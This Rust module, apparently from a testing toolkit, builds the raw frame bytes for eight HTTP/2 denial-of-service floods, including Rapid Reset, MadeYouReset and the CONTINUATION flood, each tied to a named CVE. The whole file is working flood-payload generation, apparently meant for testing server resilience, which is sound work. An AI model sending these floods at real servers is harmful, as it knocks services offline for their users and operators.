//! The kinds of floods, as the bytes of their pieces.

use testkit::http2::{self, flag, kind};

/// CANCEL (RFC 9113 §7).
const CANCEL: u32 = 8;
/// The most credit that there can be (RFC 9113 §6.9.1).
const ALL_CREDIT: u32 = 0x7fff_ffff;
/// SETTINGS_INITIAL_WINDOW_SIZE and its first value (RFC 9113 §6.5.2).
const INITIAL_WINDOW_SIZE: (u16, u32) = (4, 65_535);

/// A kind.
#[derive(Debug, Clone, Copy)]
pub(super) enum Kind {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Requests that the edge is made to reset while the app works on them (CVE-2025-8671).
    MadeYouReset,
    /// A header block without an end (CVE-2024-27316).
    Continuation,
    /// PING, which must be answered (CVE-2019-9512).
    Ping,
    /// SETTINGS, which must be answered (CVE-2019-9515).
    Settings,
    /// Credit for the connection, one byte at a time.
    WindowUpdate,
    /// DATA of nothing (CVE-2019-9518).
    EmptyData,
    /// PRIORITY of streams that there are not.
    Priority,
}

impl Kind {
    /// All of them.
    pub(super) const ALL: [Self; 8] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::Ping,
        Self::Settings,
        Self::WindowUpdate,
        Self::EmptyData,
        Self::Priority,
    ];

    /// Its name.
    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid-reset",
            Self::MadeYouReset => "made-you-reset",
            Self::Continuation => "continuation",
            Self::Ping => "ping",
            Self::Settings => "settings",
            Self::WindowUpdate => "window-update",
            Self::EmptyData => "empty-data",
            Self::Priority => "priority",
        }
    }

    /// What comes before its pieces.
    pub(super) fn start(self, host: &str, path: &str) -> Vec<u8> {
        match self {
            Self::Continuation => {
                http2::frame(kind::HEADERS, flag::END_STREAM, 1, &http2::request("GET", host, path, &[]))
            }
            Self::EmptyData => http2::post(1, host, path),
            _ => Vec::new(),
        }
    }

    /// A piece, counted from 0.
    pub(super) fn piece(self, host: &str, path: &str, number: u32) -> Vec<u8> {
        // Streams of clients are odd.
        let stream = 2 * number + 1;
        let get = || http2::get(stream, host, path);
        match self {
            Self::RapidReset => [get(), http2::reset(stream, CANCEL)].concat(),
            Self::MadeYouReset => [get(), http2::window_update(stream, ALL_CREDIT)].concat(),
            Self::Continuation => http2::frame(kind::CONTINUATION, 0, 1, &http2::field("x", "y")),
            Self::Ping => http2::ping(*b"12345678"),
            Self::Settings => http2::settings(&[(INITIAL_WINDOW_SIZE.0, INITIAL_WINDOW_SIZE.1 + number)]),
            Self::WindowUpdate => http2::window_update(0, 1),
            Self::EmptyData => http2::data(1, &[], false),
            Self::Priority => http2::frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 1]),
        }
    }
}
